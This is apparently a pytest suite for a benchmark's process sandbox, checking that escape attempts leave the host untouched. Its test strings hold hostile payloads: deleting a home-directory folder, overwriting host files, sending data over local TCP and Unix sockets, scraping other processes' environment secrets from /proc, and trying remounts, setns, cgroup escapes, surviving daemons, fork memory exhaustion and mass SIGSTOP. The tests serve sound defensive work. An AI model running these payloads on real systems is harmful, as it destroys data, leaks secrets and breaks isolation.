"""Each attack of issue 15 against the sandbox, run as the suite's user (root, and an ordinary user in CI).

A test passes when the attack changed nothing outside the run, whatever the program itself reports.
"""

from __future__ import annotations

import os
import socket
import tempfile
import time
import uuid
from pathlib import Path

import pytest
from test_sandbox import processes_with

from bench.core.runner import Runner
from bench.core.sandbox import SandboxLimits

LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"


@pytest.fixture(autouse=True)
def _isolated(runner: Runner) -> None:
    if not runner.isolation().get("pid_namespace"):
        pytest.skip("no namespaces on this machine: " + str(runner.isolation().get("namespaces_error")))


def _world_writable_folder(tmp_path: Path) -> Path:
    """A host folder the program could write to if it escaped (as root it runs as nobody)."""
    folder = tmp_path / "host"
    folder.mkdir()
    folder.chmod(0o777)
    for parent in (tmp_path, *tmp_path.parents):
        if parent == Path(tempfile.gettempdir()) or parent.stat().st_uid != os.getuid():
            break
        parent.chmod(parent.stat().st_mode | 0o011)  # reachable by anyone, as a user's home often is
    return folder


def test_home_wipe_by_real_path(runner: Runner):
    folder = Path(tempfile.mkdtemp(prefix="pyperf-victim-", dir=Path.home()))
    try:
        (folder / "precious.txt").write_text("keep me")
        code = f"import shutil\nshutil.rmtree({str(folder.resolve())!r})\nprint('wiped')"
        result = runner.run(code)
        assert result.stdout != b"wiped\n"
        assert (folder / "precious.txt").read_text() == "keep me"
    finally:
        (folder / "precious.txt").unlink()
        folder.rmdir()


def test_canary_overwrite(runner: Runner, tmp_path: Path):
    canary = _world_writable_folder(tmp_path) / "canary.txt"
    canary.write_text("original")
    canary.chmod(0o666)
    result = runner.run(f"open({str(canary)!r}, 'w').write('owned')\nprint('written')")
    assert result.stdout == b"" and result.status == "error"
    assert canary.read_text() == "original"


def test_tcp_exfiltration(runner: Runner):
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        port = server.getsockname()[1]
        code = f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'key')"
        result = runner.run(code)
        assert result.status == "error"
        with pytest.raises(TimeoutError):
            server.accept()


def test_unix_socket_exfiltration(runner: Runner, tmp_path: Path):
    path = str(_world_writable_folder(tmp_path) / "listener.sock")
    abstract = f"\0pyperf-{uuid.uuid4().hex}"
    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as hidden:
        server.bind(path)
        os.chmod(path, 0o777)
        hidden.bind(abstract)
        for s in (server, hidden):
            s.listen()
            s.settimeout(0.3)
        code = (
            "import socket\nreached = []\n"
            f"for address in ({path!r}, {abstract!r}):\n"
            "    try:\n        s = socket.socket(socket.AF_UNIX)\n        s.connect(address)\n"
            "        s.sendall(b'key')\n        reached.append(address)\n"
            "    except OSError as exc:\n        print(type(exc).__name__)\n"
            "print(reached)"
        )
        result = runner.run(code)
        assert result.stdout.endswith(b"[]\n"), result.stdout
        for s in (server, hidden):
            with pytest.raises(TimeoutError):
                s.accept()


def test_caller_environment_is_not_readable(runner: Runner, monkeypatch: pytest.MonkeyPatch):
    secret = f"s3cret-{uuid.uuid4().hex}"
    monkeypatch.setenv("PYPERF_SECRET", secret)
    os.environ["PYPERF_SECRET"] = secret  # /proc/self/environ shows the start-up environment: keep a copy
    code = (
        "import os\nfound = []\n"
        f"for pid in ['{os.getpid()}', '{os.getppid()}'] + os.listdir('/proc'):\n"
        "    try:\n        found.append(open(f'/proc/{pid}/environ', 'rb').read())\n"
        "    except OSError:\n        pass\n"
        "print(b''.join(found))"
    )
    assert secret.encode() not in runner.run(code).stdout


def test_remount_read_write(runner: Runner, tmp_path: Path):
    canary = _world_writable_folder(tmp_path) / "canary.txt"
    canary.write_text("original")
    code = LIBC + (
        "MS_REMOUNT, MS_BIND = 0x20, 0x1000\n"
        "for target in (b'/', b'/usr', b'/sandbox'):\n"
        "    print(libc.mount(None, target, None, MS_REMOUNT | MS_BIND, None), ctypes.get_errno())\n"
        f"open({str(canary)!r}, 'w').write('owned')"
    )
    result = runner.run(code)
    assert all(line.startswith(b"-1 ") for line in result.stdout.splitlines()), result.stdout
    assert canary.read_text() == "original"


def test_setns_into_the_host(runner: Runner):
    code = LIBC + (
        "import os\nresults = []\n"
        f"for pid in ('1', '{os.getpid()}'):\n"
        "    for ns in ('net', 'mnt', 'pid', 'user'):\n"
        "        try:\n            fd = os.open(f'/proc/{pid}/ns/{ns}', os.O_RDONLY)\n"
        "        except OSError:\n            results.append('closed')\n            continue\n"
        "        results.append(libc.setns(fd, 0))\n"
        "print(results)"
    )
    result = runner.run(code)
    assert result.ok and b"0" not in result.stdout.replace(b"0x", b""), result.stdout


def test_cgroup_escape(runner: Runner):
    code = LIBC + (
        "import os\nescaped = []\n"
        "for procs in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/pids/cgroup.procs',\n"
        "              '/sys/fs/cgroup/unified/cgroup.procs'):\n"
        "    try:\n        open(procs, 'w').write(str(os.getpid()))\n        escaped.append(procs)\n"
        "    except OSError:\n        pass\n"
        "os.makedirs('cg', exist_ok=True)\n"
        "if libc.mount(b'cgroup', b'cg', b'cgroup', 0, b'pids') == 0:\n    escaped.append('mounted')\n"
        "print(escaped)"
    )
    assert runner.run(code).stdout == b"[]\n"


def test_detached_daemon_does_not_survive(tmp_path: Path):
    marker = f"pyperf-daemon-{uuid.uuid4().hex}"
    witness = _world_writable_folder(tmp_path) / "alive"
    daemon = (f"import os, time\ntime.sleep(0.5)\nopen({str(witness)!r}, 'w').write('alive')\n"
              "open(os.path.expanduser('~/alive'), 'w').write('alive')\n")
    code = (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {daemon!r}, {marker!r}], start_new_session=True,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "print('started')"
    )
    with Runner(jobs=1, limits=SandboxLimits(timeout_s=5.0)) as runner:
        result = runner.run(code)
        assert result.stdout == b"started\n", result.stderr
        assert not [pid for pid in processes_with(marker)], "the daemon outlived its run"
    time.sleep(0.8)
    assert not witness.exists()


def test_multi_process_memory_is_bounded_in_total(runner: Runner):
    code = (
        "import os, time\n"
        "for _ in range(6):\n"
        "    if os.fork() == 0:\n"
        "        block = bytearray(100 << 20)\n"
        "        for i in range(0, len(block), 4096):\n            block[i] = 1\n"
        "        time.sleep(3)\n        os._exit(0)\n"
        "for _ in range(6):\n    os.wait()\n"
        "print('held 600 MiB')"
    )
    started = time.perf_counter()
    result = runner.run(code, limits=SandboxLimits(timeout_s=5.0, memory_bytes=256 << 20))
    assert result.status == "memory", (result.status, result.reason)
    assert time.perf_counter() - started < 3


def test_sigstop_of_the_zygote():
    with Runner(jobs=1, limits=SandboxLimits(timeout_s=5.0)) as runner:
        zygote = runner._workers[0].zygote
        runner.run("pass")
        host_pid = zygote._process.pid  # type: ignore[union-attr]
        code = (
            "import os, signal\nfor pid in [1, os.getppid(), "
            f"{host_pid}] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    if pid != os.getpid():\n"
            "        try:\n            os.kill(pid, signal.SIGSTOP)\n        except OSError:\n            pass\n"
            "try:\n    os.kill(-1, signal.SIGSTOP)\nexcept OSError:\n    pass\n"
        )
        runner.run(code)
        started = time.perf_counter()
        assert runner.run("print('alive')").stdout == b"alive\n"
        assert time.perf_counter() - started < 2
        assert Path(f"/proc/{host_pid}/stat").read_text().split(")")[1].split()[0] != "T"
